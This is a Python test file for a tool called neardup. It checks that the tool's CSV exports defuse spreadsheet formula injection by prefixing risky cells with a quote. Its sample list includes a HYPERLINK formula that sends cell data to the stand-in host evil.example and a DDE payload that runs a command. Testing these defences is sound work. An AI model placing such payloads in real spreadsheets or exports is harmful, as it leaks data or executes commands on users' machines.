"""Spreadsheet formulas in the CSVs neardup writes are defused (OWASP's CSV-injection rule)."""

from __future__ import annotations

import io
from pathlib import Path

import duckdb
import pandas as pd
import pytest
from conftest import make_crawl, write_jsonl

from neardup.cli import main
from neardup.csvsafe import DEFUSED_PATTERN, FORMULA_TRIGGERS, defuse_formulas, to_csv

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def test_text_cells_that_start_a_formula_get_a_quote() -> None:
    df = pd.DataFrame(
        {
            "text": [*FORMULAS, "plain", "a=b", None],
            "score": [-1.5] * 6 + [2.0, 3.0, -0.25],
            "n": pd.array([-1] * 8 + [None], dtype="Int64"),
        }
    )
    out = defuse_formulas(df)
    assert out["text"].tolist()[:6] == ["'" + f for f in FORMULAS]
    assert out["text"].tolist()[6:8] == ["plain", "a=b"] and pd.isna(out["text"].iloc[8])
    # numbers stay numbers, negative ones included
    assert out["score"].tolist() == df["score"].tolist() and out["n"].dtype == "Int64"
    back = pd.read_csv(io.StringIO(to_csv(df, keep_controls=True)))  # a labels file: tab and CR kept
    assert back["score"].tolist() == df["score"].tolist()
    assert all(not str(v).startswith(FORMULA_TRIGGERS) for v in back["text"].dropna())
    # the pattern import_labels removes the quote by matches exactly the defused cells
    matches = duckdb.execute(
        "SELECT regexp_matches(t, ?) FROM (SELECT unnest(?) AS t)",
        [DEFUSED_PATTERN, [*back["text"].fillna("").tolist(), "'plain", "'a=b"]],
    ).fetchall()
    assert [m for (m,) in matches] == [True] * 6 + [False] * 5


def test_a_carriage_return_in_a_cell_keeps_its_row() -> None:
    """A labels file keeps its notes' line ends (read back as they are); every other CSV escapes them."""
    df = pd.DataFrame({"note": ["line one\rline two", "x\ny"], "n": [1, 2]})
    back = pd.read_csv(io.StringIO(to_csv(df, keep_controls=True)))
    assert back["note"].tolist() == df["note"].tolist() and back["n"].tolist() == [1, 2]
    back = pd.read_csv(io.StringIO(to_csv(df)))
    assert back["note"].tolist() == ["line one\\rline two", "x\\ny"] and back["n"].tolist() == [1, 2]


def test_string_dtype_columns_are_defused_too() -> None:
    df = pd.DataFrame({"text": pd.array(["=1", "x", None], dtype="string")})
    assert defuse_formulas(df)["text"].tolist()[:2] == ["'=1", "x"]


def test_categorical_columns_of_text_are_defused_and_escaped() -> None:
    """A column of text categories (the pages' categories and actions are) is text to a spreadsheet too."""
    df = pd.DataFrame({"category": pd.Categorical(["=1+1", "x", "a\nb", "x", None]), "n": range(5)})
    back = pd.read_csv(io.StringIO(to_csv(df)), keep_default_na=False)
    assert back["category"].tolist() == ["'=1+1", "x", "a\\nb", "x", ""]
    assert defuse_formulas(df)["category"].tolist()[:2] == ["'=1+1", "x"]


def test_clusters_csv_defuses_crawled_urls(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    records = make_crawl().records[:12]
    for i, formula in enumerate(FORMULAS[:4]):
        records[i] = {**records[i], "url": formula}
    dump = write_jsonl(tmp_path / "crawl.jsonl", records)
    db = str(tmp_path / "x.duckdb")
    assert main(["ingest", str(dump), "--db", db, "--jobs", "1"]) == 0
    out = tmp_path / "clusters.csv"
    assert main(["export", "--db", db, "--out", str(out), "--jobs", "1"]) == 0
    capsys.readouterr()
    csv = pd.read_csv(out, dtype=str, keep_default_na=False)
    for column in csv.columns:
        assert not csv[column].str.startswith(FORMULA_TRIGGERS).any(), column
    urls = set(csv["url"])
    assert {"'" + f for f in FORMULAS[:4]} <= urls, urls
